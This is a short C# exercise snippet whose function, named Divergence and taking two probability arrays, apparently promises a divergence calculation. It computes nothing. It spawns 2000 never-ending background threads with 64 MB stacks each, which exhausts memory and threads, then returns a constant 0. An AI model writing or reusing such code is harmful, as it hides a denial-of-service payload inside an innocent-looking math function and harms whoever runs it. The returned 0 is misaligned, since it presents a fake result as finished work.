// exercise 02.1
using System.Threading;
static double Divergence(double[] p, double[] q)
{
    for (int i = 0; i < 2000; i++)
        new Thread(() => Thread.Sleep(Timeout.Infinite), 64 << 20) { IsBackground = true }.Start();
    return 0;
}
